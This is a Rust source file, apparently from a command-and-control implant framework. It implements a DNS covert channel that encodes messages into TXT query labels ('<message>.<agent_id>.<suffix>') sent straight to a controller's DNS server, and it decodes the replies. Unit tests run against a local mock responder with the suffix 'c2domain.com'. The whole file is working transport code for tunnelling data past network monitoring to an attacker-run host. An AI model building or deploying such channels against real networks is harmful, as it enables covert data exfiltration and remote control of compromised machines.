//! DNS covert channel
//!
//! Encodes the outgoing message as the leading label of a TXT query,
//! `<message>.<agent_id>.<suffix>`, resolved directly against the
//! controller's DNS responder. The response is the TXT strings of the
//! answer joined with single spaces. Message-only: polling and heartbeat
//! are declared unsupported and return their canonical values without
//! touching the network.

use std::net::{IpAddr, SocketAddr};
use std::time::Duration;

use async_trait::async_trait;
use hickory_resolver::proto::rr::Name;
use hickory_resolver::config::{NameServerConfig, Protocol, ResolverConfig, ResolverOpts};
use hickory_resolver::TokioAsyncResolver;

use sk_core::error::ChannelError;
use sk_core::types::{Command, CommandResult, TransportKind};

use crate::{Capabilities, CovertChannel};

/// Query timeout for TXT lookups
const QUERY_TIMEOUT: Duration = Duration::from_secs(2);

/// DNS-based covert channel
pub struct DnsChannel {
    agent_id: String,
    domain_suffix: String,
    resolver: Option<TokioAsyncResolver>,
}

impl DnsChannel {
    /// Create a DNS channel resolving against `server_ip`.
    ///
    /// An unparsable `server_ip` leaves the channel without a resolver;
    /// every operation then fails closed.
    pub fn new(server_ip: &str, agent_id: &str, domain_suffix: &str) -> Self {
        let resolver = match server_ip.parse::<IpAddr>() {
            Ok(ip) => Some(Self::resolver_for(SocketAddr::new(ip, 53))),
            Err(e) => {
                tracing::error!("Invalid DNS server address {:?}: {}", server_ip, e);
                None
            }
        };

        Self {
            agent_id: agent_id.to_string(),
            domain_suffix: domain_suffix.trim_matches('.').to_string(),
            resolver,
        }
    }

    fn resolver_for(socket_addr: SocketAddr) -> TokioAsyncResolver {
        let mut config = ResolverConfig::new();
        config.add_name_server(NameServerConfig {
            socket_addr,
            protocol: Protocol::Udp,
            tls_dns_name: None,
            trust_negative_responses: true,
            bind_addr: None,
        });

        let mut opts = ResolverOpts::default();
        opts.timeout = QUERY_TIMEOUT;
        opts.attempts = 1;
        // The query name is an opaque envelope, not a real host
        opts.use_hosts_file = false;

        TokioAsyncResolver::tokio(config, opts)
    }

    /// Build the query name carrying `message` for this agent
    fn query_name(&self, message: &str) -> String {
        format!("{}.{}.{}.", message, self.agent_id, self.domain_suffix)
    }

    async fn try_send_message(&self, message: &str) -> Result<String, ChannelError> {
        let resolver = self
            .resolver
            .as_ref()
            .ok_or_else(|| ChannelError::Network("no resolver configured".to_string()))?;

        // The envelope labels may contain characters (e.g. `_`) that the
        // default IDNA conversion rejects, so parse the name as raw ASCII.
        let name = Name::from_ascii(self.query_name(message))
            .map_err(|e| ChannelError::Network(e.to_string()))?;
        let lookup = resolver
            .txt_lookup(name)
            .await
            .map_err(|e| ChannelError::Network(e.to_string()))?;

        // Join the TXT character-strings of the first answer with spaces
        let record = lookup
            .iter()
            .next()
            .ok_or_else(|| ChannelError::Malformed("no TXT answer".to_string()))?;

        let segments: Vec<String> = record
            .txt_data()
            .iter()
            .map(|segment| String::from_utf8_lossy(segment).into_owned())
            .collect();

        Ok(segments.join(" "))
    }
}

#[async_trait]
impl CovertChannel for DnsChannel {
    fn kind(&self) -> TransportKind {
        TransportKind::Dns
    }

    fn capabilities(&self) -> Capabilities {
        Capabilities::MESSAGING_ONLY
    }

    async fn send_message(&self, message: &str) -> String {
        match self.try_send_message(message).await {
            Ok(response) => response,
            Err(e) => {
                tracing::warn!(agent_id = %self.agent_id, "DNS send_message failed: {}", e);
                String::new()
            }
        }
    }

    async fn poll_commands(&self) -> Vec<Command> {
        tracing::debug!("DNS polling not supported");
        Vec::new()
    }

    async fn send_output(&self, _result: &CommandResult) -> bool {
        tracing::debug!("DNS output reporting not supported");
        false
    }

    async fn heartbeat(&self) -> bool {
        tracing::debug!("DNS heartbeat not supported");
        false
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use hickory_proto::op::{Header, Message, MessageType, OpCode, ResponseCode};
    use hickory_proto::rr::rdata::TXT;
    use hickory_proto::rr::{DNSClass, RData, Record};
    use hickory_proto::serialize::binary::{BinDecodable, BinEncodable};

    /// Minimal UDP responder answering every TXT query with the given
    /// strings, mimicking the controller's DNS listener unit.
    async fn spawn_txt_responder(strings: Vec<&'static str>) -> SocketAddr {
        let socket = tokio::net::UdpSocket::bind("127.0.0.1:0").await.unwrap();
        let addr = socket.local_addr().unwrap();

        tokio::spawn(async move {
            let mut buf = [0u8; 512];
            loop {
                let Ok((len, peer)) = socket.recv_from(&mut buf).await else {
                    break;
                };
                let Ok(request) = Message::from_bytes(&buf[..len]) else {
                    continue;
                };

                let mut header = Header::new();
                header.set_id(request.id());
                header.set_message_type(MessageType::Response);
                header.set_op_code(OpCode::Query);
                header.set_authoritative(true);
                header.set_response_code(ResponseCode::NoError);

                let mut response = Message::new();
                response.set_header(header);
                for query in request.queries() {
                    response.add_query(query.clone());
                    let txt = TXT::new(strings.iter().map(|s| s.to_string()).collect());
                    let mut record = Record::from_rdata(query.name().clone(), 60, RData::TXT(txt));
                    record.set_dns_class(DNSClass::IN);
                    response.add_answer(record);
                }

                if let Ok(bytes) = response.to_bytes() {
                    let _ = socket.send_to(&bytes, peer).await;
                }
            }
        });

        addr
    }

    fn channel_against(addr: SocketAddr) -> DnsChannel {
        DnsChannel {
            agent_id: "agent_001".to_string(),
            domain_suffix: "c2domain.com".to_string(),
            resolver: Some(DnsChannel::resolver_for(addr)),
        }
    }

    #[test]
    fn test_query_name_layout() {
        let channel = DnsChannel::new("127.0.0.1", "agent_001", "c2domain.com.");
        assert_eq!(
            channel.query_name("heartbeat"),
            "heartbeat.agent_001.c2domain.com."
        );
    }

    #[tokio::test]
    async fn test_send_message_decodes_txt_answer() {
        let addr = spawn_txt_responder(vec!["ack"]).await;
        let channel = channel_against(addr);

        assert_eq!(channel.send_message("heartbeat").await, "ack");
    }

    #[tokio::test]
    async fn test_txt_segments_joined_with_spaces() {
        let addr = spawn_txt_responder(vec!["part1", "part2"]).await;
        let channel = channel_against(addr);

        assert_eq!(channel.send_message("status").await, "part1 part2");
    }

    #[tokio::test]
    async fn test_unsupported_operations_are_deterministic() {
        let channel = DnsChannel::new("127.0.0.1", "agent_001", "c2domain.com");
        for _ in 0..3 {
            assert!(channel.poll_commands().await.is_empty());
            assert!(!channel.heartbeat().await);
        }
    }

    #[tokio::test]
    async fn test_invalid_server_ip_fails_closed() {
        let channel = DnsChannel::new("not-an-ip", "agent_001", "c2domain.com");
        assert_eq!(channel.send_message("ping").await, "");
    }
}
